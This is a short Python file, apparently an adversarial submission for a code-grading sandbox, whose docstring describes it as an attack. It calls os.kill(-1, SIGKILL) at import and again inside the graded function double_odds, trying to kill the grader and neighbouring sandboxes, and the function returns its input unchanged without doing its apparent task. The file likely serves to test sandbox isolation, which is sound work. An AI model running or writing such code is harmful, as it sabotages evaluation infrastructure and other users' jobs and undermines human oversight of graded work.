"""Attack: send SIGKILL to every process it is allowed to signal (kill -1), first while the notebook runs and
again from inside the graded function, hoping to kill the grader or the other sandboxes."""
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def double_odds(nums):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return nums
